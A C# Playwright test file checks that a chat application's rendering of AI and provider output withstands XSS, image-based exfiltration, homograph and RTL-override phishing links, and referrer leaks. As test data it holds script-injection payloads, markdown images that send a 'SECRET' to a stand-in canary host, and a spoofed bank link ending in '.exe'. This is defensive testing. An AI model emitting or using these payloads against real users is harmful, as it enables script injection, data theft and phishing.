using Microsoft.Playwright;
using Parley.BrowserTests.Infrastructure;
using Parley.BrowserTests.Pages;
using Parley.Emulation.Answers;
using static Microsoft.Playwright.Assertions;

namespace Parley.BrowserTests.Rendering;

/// <summary>The cases of the security catalogue's 2.10 in a real browser: as an answer that comes whole, as one that comes character by character, as a question and as a title.</summary>
public sealed class RenderingTests(Chromium chromium, EmulatedSite emulated) : BrowserTest(chromium, emulated.Site), IClassFixture<EmulatedSite>
{
    private const string End = "And so it ends.";

    public static TheoryData<string> Cases => [.. Payloads.OfCase.Keys];

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task What_means_harm_is_text(string id)
    {
        var text = string.Join("\n\n", [.. Payloads.OfCase[id], End]);
        Site.Gemini.Script(new Answer().Text(text), new Answer().Text(Characters(text)));
        var page = await OpenSignedInAsync();
        var chat = new ChatPage(page);
        var witness = await Witness.OfAsync(page, Site.Address);

        await chat.SendAsync(text);
        await chat.AnsweredAsync();
        await chat.SendAsync("Again, and slowly");
        await Expect(chat.Assistant).ToHaveCountAsync(2);
        await chat.AnsweredAsync();
        await RenameAsync(page, text.ReplaceLineEndings(" ")[..Math.Min(text.Length, 190)]);

        foreach (var answer in await chat.Assistant.AllAsync())
            await Expect(answer).ToContainTextAsync(End);
        Assert.Equal(await ProseAsync(chat.Assistant.First), await ProseAsync(chat.Assistant.Last));
        await Expect(chat.You.First.Locator(".bubble > *")).ToHaveCountAsync(0);
        Assert.Equal(text, await chat.You.First.Locator(".bubble").EvaluateAsync<string>("bubble => bubble.textContent"));
        await witness.CheckAsync(page, ".prose");

        await page.ReloadAsync();
        await page.EvaluateAsync("() => { window.here = true; window.violations = []; }");
        await Expect(chat.Title.Locator("*")).ToHaveCountAsync(0);
        await Expect(page.Locator("conversation-list nav a *:not(mark)")).ToHaveCountAsync(0);
        await witness.CheckAsync(page, ".prose");
        Assert.Empty(witness.Canary);
    }

    /// <summary>B-20: nobody learns that an answer was read, until its reader wants the picture.</summary>
    [Fact]
    public async Task A_picture_from_elsewhere_is_asked_for_only_when_it_is_wanted_and_without_a_referrer()
    {
        const string Pictures = "![one](https://canary.test/asked?q=SECRET)\n\n![two][r] <img srcset=\"https://canary.test/2x 2x\"> ![three](//canary.test/x.png)\n\n[![in a link](https://canary.test/linked)](https://canary.test/)\n\n[r]: https://canary.test/reference\n\n" + End;
        Site.Gemini.Script(new Answer().Text(Pictures), new Answer().Text(Characters(Pictures)));
        var page = await OpenSignedInAsync();
        var chat = new ChatPage(page);
        var witness = await Witness.OfAsync(page, Site.Address);
        await chat.SendAsync("Pictures");
        await chat.AnsweredAsync();
        await chat.SendAsync("Slowly");
        await Expect(chat.Assistant).ToHaveCountAsync(2);
        await chat.AnsweredAsync();

        await witness.CheckAsync(page, ".prose");
        Assert.Empty(witness.Canary);
        await Expect(chat.Assistant.First).ToContainTextAsync("canary.test");

        var opened = await page.Context.RunAndWaitForPageAsync(() => chat.Assistant.First.Locator("a.remote-image").First.ClickAsync());
        await opened.WaitForLoadStateAsync();
        Assert.True(await opened.EvaluateAsync<bool>("window.opener === null"));
        Assert.Equal(["https://canary.test/asked?q=SECRET from nowhere"], witness.Canary);
    }

    /// <summary>B-21.</summary>
    [Fact]
    public async Task Pictures_in_the_text_itself_are_shown_only_where_they_cannot_carry_a_script()
    {
        const string Png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
        Site.Gemini.Script(new Answer().Text($"![good](data:image/png;base64,{Png})\n\n![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)\n\n![html](data:text/html;base64,PHNjcmlwdD4=)\n\n![loose](data:image/png,<script>alert(1)</script>)\n\n{End}"));
        var page = await OpenSignedInAsync();
        var chat = new ChatPage(page);
        var witness = await Witness.OfAsync(page, Site.Address);
        await chat.SendAsync("Pictures");
        await chat.AnsweredAsync();

        await witness.CheckAsync(page, ".prose");
        await Expect(chat.Assistant.Locator("img")).ToHaveCountAsync(1);
        await Expect(chat.Assistant.GetByRole(AriaRole.Img, new() { Name = "good" })).ToBeVisibleAsync();
        await Expect(chat.Assistant).ToContainTextAsync("svg");
    }

    /// <summary>B-15, B-16, B-25: where a link leads can be seen before, and what it leads to learns nothing.</summary>
    [Fact]
    public async Task A_link_shows_where_it_leads_and_is_not_followed_by_itself()
    {
        Site.Gemini.Script(new Answer().Text($"https://canary.test/asked?q=all+that+was+said and [my bank](https://раураl.test/\u202Efdp.exe) and [this](https://canary.test/a\u200Bb)\n\n{End}"));
        var page = await OpenSignedInAsync();
        var chat = new ChatPage(page);
        var witness = await Witness.OfAsync(page, Site.Address);
        await chat.SendAsync("Links");
        await chat.AnsweredAsync();

        await witness.CheckAsync(page, ".prose");
        Assert.Empty(witness.Canary);
        var bank = chat.Assistant.GetByRole(AriaRole.Link, new() { Name = "my bank" });
        Assert.StartsWith("https://xn--", await bank.GetAttributeAsync("title"), StringComparison.Ordinal);
        foreach (var link in await chat.Assistant.Locator(".prose a").AllAsync())
            Assert.Equal("noopener noreferrer nofollow", await link.GetAttributeAsync("rel"));
        var opened = await page.Context.RunAndWaitForPageAsync(() => chat.Assistant.GetByText("all+that+was+said").ClickAsync());
        await opened.WaitForLoadStateAsync();
        Assert.True(await opened.EvaluateAsync<bool>("window.opener === null"));
        Assert.Equal(["https://canary.test/asked?q=all+that+was+said from nowhere"], witness.Canary);
    }

    /// <summary>The provider's words are no more to be trusted than the model's.</summary>
    [Fact]
    public async Task What_the_provider_says_of_a_failure_is_text()
    {
        const string Bad = "<img src=x onerror=alert(1)><script>alert(1)</script>";
        Site.Gemini.Script(
            new Answer().Raise(Parley.Emulation.Errors.GeminiError.InvalidArgument(Bad)), new Answer().Block("OTHER", Bad), new Answer().Text("Half").Finish("OTHER", Bad),
            new Answer().Think(Bad).Text(End));
        var page = await OpenSignedInAsync();
        var chat = new ChatPage(page);
        var witness = await Witness.OfAsync(page, Site.Address);
        for (var sent = 1; sent <= 4; sent++)
        {
            await chat.SendAsync($"Question {sent}");
            await Expect(chat.Assistant).ToHaveCountAsync(sent);
            await chat.AnsweredAsync();
        }

        await witness.CheckAsync(page, ".prose");
        await Expect(page.Locator("#thread script, #thread img")).ToHaveCountAsync(0);
        await Expect(chat.Assistant.Last).ToContainTextAsync(End);
    }

    private static string[] Characters(string text) => [.. text.EnumerateRunes().Select(rune => rune.ToString())];

    // Without formulas: those that the reader is not near are not drawn yet.
    private static Task<string> ProseAsync(ILocator reply) => reply.Locator(".prose").EvaluateAsync<string>("""
        (prose) => {
            const copy = prose.cloneNode(true);
            for (const formula of copy.querySelectorAll(".math")) formula.remove();
            return copy.textContent.replace(/\s+/g, " ").trim();
        }
        """);

    private static async Task RenameAsync(IPage page, string title)
    {
        var answer = await page.APIRequest.PatchAsync($"/api/conversations/{page.Url.Split('/')[^1]}", new()
        {
            Headers = [new("Sec-Fetch-Site", "same-origin")],
            DataObject = new { title },
        });
        Assert.True(answer.Ok, await answer.TextAsync());
    }
}
